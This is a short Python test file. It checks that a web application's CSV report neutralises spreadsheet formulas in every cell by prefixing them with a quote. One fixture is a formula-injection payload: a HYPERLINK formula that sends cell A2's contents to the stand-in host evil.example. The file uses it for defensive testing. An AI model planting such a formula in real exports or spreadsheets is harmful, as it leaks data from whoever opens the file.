"""The CSV report staff open in a spreadsheet never carries a live formula."""

from __future__ import annotations

import csv
import io

from tests.api.conftest import Api

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
]


def test_report_csv_neutralises_formulas_in_every_cell(api: Api) -> None:
    for title in FORMULAS:
        api.new_need(title=title, description="Mercury thermometers from hospitals need safe storage.")
    api.sign_in("secretariat")
    response = api.client.get("/report.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    titles = [row[header.index("title")] for row in body]
    for title in FORMULAS:
        assert "'" + title in titles, title
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
